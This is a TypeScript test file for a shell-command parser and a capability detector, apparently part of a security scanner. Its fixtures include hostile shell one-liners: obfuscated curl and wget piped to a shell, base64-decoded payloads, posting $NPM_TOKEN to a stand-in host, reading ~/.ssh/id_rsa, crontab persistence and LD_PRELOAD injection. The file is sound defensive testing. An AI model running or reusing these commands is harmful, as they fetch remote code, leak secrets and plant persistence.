import { execFileSync, spawnSync } from 'node:child_process'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Capability } from '../../capability.ts'
import { sourceText } from '../source-text.ts'
import { commandsIn } from './commands.ts'
import { shellUnits } from './units.ts'

const units = (text: string) => shellUnits(sourceText(Buffer.from(text)), 'shell.command')
const noBash = spawnSync('bash', ['-c', 'true']).status !== 0

describe('words are those of bash', () => {
  const plain = fc.string({ unit: fc.constantFrom(...'abc019_./:-'), minLength: 1, maxLength: 6 })
  const piece = fc.oneof(
    plain,
    fc.string({ unit: fc.constantFrom(...'ab $"\\`;|&#()<>*~'), maxLength: 6 }).map((text) => `'${text}'`),
    fc.string({ unit: fc.constantFrom(..."ab ';|&#()<>*~"), maxLength: 6 }).map((text) => `"${text}"`),
    fc.constantFrom('\\"', "\\'", '\\ ', '\\\\', '\\$', '"\\$"', '"\\\\"', "''", '""', "$'\\x41b'", '\\;', '\\|'),
  )
  const word = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(''))

  test.skipIf(noBash)('random quoting', () => {
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 5 }), (words) => {
        const line = words.join(' ')
        const told = execFileSync('bash', ['-c', `printf '%s\\0' ${line}`])
          .toString()
          .split('\0')
          .slice(0, -1)
        const [command] = commandsIn(`printf ${line}`)
        expect(command?.stages).toEqual([['printf', ...told]])
      }),
      { numRuns: 60 },
    )
  })
})

test('commands, pipelines, substitutions and here-documents', () => {
  const text = 'a b; c && d || e &\nf | g |\n h 2>&1 # comment ; i\nj "$(k; l)" `m`\ncat <<-\'EOF\' > x\n\tbody; not a command\n\tEOF\nn \\\n o'
  expect(commandsIn(text).map(({ stages, documents }) => [stages.map((words) => words.join(' ')).join(' | '), ...documents])).toEqual([
    ['a b'],
    ['c'],
    ['d'],
    ['e'],
    ['f | g | h 2>&1'],
    ['j $(k; l) $(m)'],
    ['cat << > x', '\tbody; not a command'],
    ['n o'],
  ])
})

test.each<[string, ...Capability[]]>([
  ['X="cu""rl"; $X -s http://a.invalid | b\'\'ash', 'network', 'shell', 'evaluate'],
  ['echo aGVsbG8K | base64 -d | sh', 'decode', 'evaluate', 'shell'],
  ['sed rpath am__dist | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null | eval $x', 'decode', 'evaluate', 'file-read'],
  ['python3 -c "import os"', 'execute', 'evaluate'],
  ['sleep 10m', 'delay'],
  ['systemctl enable foo', 'persistence'],
  ['echo "* * * * * x" >> /etc/crontab', 'persistence', 'file-write'],
  ['a=$(curl -s https://x.invalid/$(hostname))', 'network', 'host-information'],
  ['cat ~/.ssh/id_rsa', 'credentials', 'file-read'],
  ['npm publish --access public', 'publish'],
  ['sudo cat /proc/$pid/mem', 'process-memory'],
  ['bash -c "wget http://b.invalid -O- | sh"', 'network', 'evaluate', 'shell'],
  ['curl -d "$NPM_TOKEN" https://c.invalid', 'network', 'credentials', 'environment'],
  ['LD_PRELOAD=./x.so ls', 'injection'],
  ['bash <<EOF\ncurl http://d.invalid\nEOF', 'network', 'shell'],
  ["$'\\x63url' http://e.invalid", 'network'],
])('%s', (text, ...can) => {
  expect(units(text).flatMap(({ capabilities }) => capabilities)).toEqual(expect.arrayContaining(can))
})

test('white space, quotes and comments change nothing; the place is that of the command', () => {
  const one = units('a  "b"\n\n  c d # e\n')
  expect(one.map(({ id }) => id)).toEqual(units("#!/bin/sh\na b;c 'd'").map(({ id }) => id))
  expect(one.map(({ place }) => place.line)).toEqual([1, 3])
})
